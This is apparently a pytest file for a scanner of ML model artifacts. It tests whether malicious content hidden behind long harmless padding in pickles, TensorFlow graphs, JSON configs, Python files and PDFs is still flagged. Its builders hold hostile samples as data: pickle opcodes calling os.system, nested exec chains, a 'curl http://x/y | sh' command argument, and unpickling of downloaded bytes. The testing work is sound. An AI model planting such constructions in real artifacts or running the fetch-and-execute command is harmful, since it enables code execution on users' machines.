"""What does harm is found, or not assessed, however much harmless stands before it."""

from __future__ import annotations

import base64
import json
import pickle
import zlib
from collections.abc import Callable, Mapping

import pytest

from mlsec.artifacts.bytes.window import Window
from mlsec.artifacts.content.program_text import MOST_FOUND
from mlsec.artifacts.facts import FactKind, Inspection
from mlsec.artifacts.formats import pdf
from mlsec.artifacts.formats.tensorflow.graph import LONGEST_PATH
from mlsec.artifacts.inspect.inspect import inspect
from mlsec.artifacts.pickle.files import loadable
from mlsec.artifacts.pickle.policy import evidence, graph_modules, judged_texts
from mlsec.artifacts.python import flows as python_flows
from mlsec.artifacts.python import walk as python_walk
from mlsec.artifacts.settings import class_settings
from mlsec.core.enums import Severity
from tests.artifacts.builders import pickles as make
from tests.artifacts.builders import tensorflow_graphs as tensorflow
from tests.artifacts.builders.protobufs import message, number
from tests.artifacts.pickle.test_honest_calls import FORWARD, traced

FLAGGING = {Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL}
RECONSTRUCT = make.stacked("numpy._core.multiarray", "_reconstruct")
FETCHED = (
    "import pickle\nfrom urllib.request import urlopen\n\n\ndef f(u):\n    return pickle.loads("
)
PROGRAM = "__import__('os').system('echo inert')"


def lists(count: int) -> bytes:
    return b"]" * count


def module(more: bytes) -> bytes:
    return make.stream(traced(FORWARD, more=make.text("parts") + more))


def program(depth: int) -> bytes:
    text = "import os; os.system('echo inert')"
    for _ in range(depth):
        text = f"exec({text!r})"
    return text.encode()


def constant(size_bytes: int) -> bytes:
    tensor = message(8, number(1, 7), message(8, PROGRAM.encode().rjust(size_bytes)))
    graph = tensorflow.graph(tensorflow.node("Const", value=tensor))
    return tensorflow.saved_model(tensorflow.meta_graph(graph))


def old_pickle(words: int) -> bytes:
    held = pickle.dumps([f"w{at}" for at in range(words)], protocol=0)[:-1]
    data = held + b"0cos\nsystem\n(S'echo inert'\ntR."
    settings = {"model_type": "x", "weights": base64.b64encode(data).decode()}
    return json.dumps(settings).encode()


def settings(count: int) -> bytes:
    held = {"last": PROGRAM, "model_type": "x", "labels": [f"word{at:06}" for at in range(count)]}
    return json.dumps(held).encode()


def command(count: int) -> bytes:
    given = ["word"] * count + ["-c", "curl http://x/y | sh"]
    return json.dumps({"model_type": "x", "command": "bash", "args": given}).encode()


def decoys(count: int) -> bytes:
    """Program texts among the values of an array, then one that stands by itself."""
    dtype = make.stacked("numpy", "dtype") + make.text("O8") + b"\x89\x88\x87R"
    one = make.text("os.system('id')")
    array = RECONSTRUCT + make.stacked("numpy", "ndarray") + b"K\0\x85C\1b\x87R"
    state = b"(K\1K\2\x85" + dtype + b"\x89](" + one * count + b"etb"
    return make.stream(array + state, b"0", make.text("os.popen('id')"))


def document(size_bytes: int) -> bytes:
    packed = zlib.compress(bytes(size_bytes) + b"/OpenAction << /S /JavaScript >>")
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + packed + b"\nendstream\nendobj\n%%EOF\n"
    )  # fmt: skip


def pattern(size_bytes: int) -> bytes:
    text = make.long_text("(?i)" + "a" * size_bytes + "\u00e9-\uffff" * 500)
    return make.stream(make.stacked("re", "_compile"), b"(" + text + b"K\2tR")


Build = Callable[[int], bytes]
# How the file is called, its content behind so much, and the cap that is in the way.
BEHIND: Mapping[str, tuple[str, Build, int]] = {
    "parts-of-a-traced-module": (
        "a.pkl",
        lambda n: module(b"(" + make.stacked("builtins", "getattr") + lists(n) + b"t"),
        graph_modules.LOOKED_AT,
    ),
    "table-of-a-traced-module": (
        "a.pkl",
        lambda n: module(b"](" + lists(n) + make.stacked("builtins", "getattr") + b"e"),
        1_000,
    ),
    "given-to-a-maker": (
        "a.pkl",
        lambda n: make.stream(
            RECONSTRUCT + b"(" + lists(n) + make.stacked("builtins", "getattr") + b"tR"
        ),
        evidence.LOOKED_AT,
    ),
    "text-of-an-expression": (
        "a.pkl",
        lambda n: make.stream(
            make.stacked("sympy.core.add", "Add"),
            b"((" + lists(n) + make.text("().__class__.x()") + b"ttR",
        ),
        evidence.LOOKED_AT,
    ),
    "programs-that-are-values": ("a.pkl", decoys, MOST_FOUND),
    "pattern": ("a.pkl", pattern, judged_texts.READ_BYTES),
    "text-constant-of-a-graph": ("saved_model.pb", constant, LONGEST_PATH),
    "old-pickle-in-letters": ("a.json", old_pickle, loadable.OLD_OPCODES),
    "texts-of-settings": ("config.json", settings, class_settings.MOST_TEXTS),
    "words-of-a-command": ("config.json", command, class_settings.LONGEST_COMMAND // 5),
    "program-in-a-program": ("a.py", program, python_walk.MOST_WITHIN),
    "what-a-call-is-made-of": (
        "a.py",
        lambda n: (FETCHED + f"[{', '.join(['a'] * n)}, urlopen(u).read()][-1])\n").encode(),
        python_flows.MOST_PARTS,
    ),
    "what-a-name-was-set-to": (
        "a.py",
        lambda n: ("import pickle\nfrom urllib.request import urlopen\n\n\ndef f(u):\n"
        + "".join(f"    a = b{at}\n" for at in range(n))
        + "    a = urlopen(u).read()\n    return pickle.loads(a)\n").encode(),
        8,
    ),
    "objects-of-a-document": ("a.pdf", document, pdf.STREAM_BYTES),
}  # fmt: skip
# What a document only keeps is told and no alarm.
MILD = {"objects-of-a-document"}


def look(case: str, count: int) -> Inspection:
    name, build, _ = BEHIND[case]
    return inspect(Window.of(build(count), name))


@pytest.mark.parametrize("case", BEHIND)
def test_harm_is_flagged_where_little_stands_before_it(case: str) -> None:
    found = look(case, 2)
    flagged = [one for one in found.facts if one.danger in FLAGGING or case in MILD]
    assert flagged
    assert not [one for one in found.facts if one.kind is FactKind.NOT_FULLY_READ]


@pytest.mark.parametrize("case", BEHIND)
def test_harm_behind_more_than_is_looked_at_is_flagged_or_not_assessed(case: str) -> None:
    before = {(one.kind, one.danger) for one in look(case, 2).facts}
    found = look(case, BEHIND[case][2] + 1)
    said = [one for one in found.facts if one.kind is FactKind.NOT_FULLY_READ]
    assert said or found.gaps or before <= {(one.kind, one.danger) for one in found.facts}


# Honest things that are long as well.
HONEST: Mapping[str, tuple[str, Build, int]] = {
    "maker": ("a.pkl", lambda n: make.stream(RECONSTRUCT + b"(" + lists(n) + b"tR"), 1_000),
    "set": (
        "a.pkl",
        lambda n: make.stream(
            make.stacked("builtins", "set"), b"](" + b"K\1" * n + b"e\x85R"
        ),
        evidence.LOOKED_AT * 2,
    ),
    "counter": (
        "a.pkl",
        lambda n: make.stream(
            make.stacked("collections", "OrderedDict"), b"](" + b"K\1K\2\x86" * n + b"e\x85R"
        ),
        evidence.LOOKED_AT * 2,
    ),
    "vocabulary": (
        "tokenizer.json",
        lambda n: json.dumps(
            {"model": {"merges": [f"word{at:06} b" for at in range(n)]}}
        ).encode(),
        class_settings.MOST_TEXTS * 2,
    ),
    "table-of-python": (
        "a.py",
        lambda n: (
            "import torch\n\nTABLE = {" + ", ".join(f"{at}: 'w{at}'" for at in range(n)) + "}\n"
            "\n\ndef load(path):\n    return torch.load(path), TABLE\n"
        ).encode(),
        python_flows.MOST_PARTS,
    ),
    "picture-of-a-document": (
        "a.pdf", lambda n: document(n).replace(b"/ObjStm", b"/XObject"), pdf.STREAM_BYTES
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HONEST)
def test_what_is_long_and_honest_brings_no_gap(case: str) -> None:
    name, build, count = HONEST[case]
    found = inspect(Window.of(build(count + 1), name))
    assert found.gaps == ()
    assert not [one for one in found.facts if one.danger in FLAGGING]
    assert not [one for one in found.facts if one.kind is FactKind.NOT_FULLY_READ]
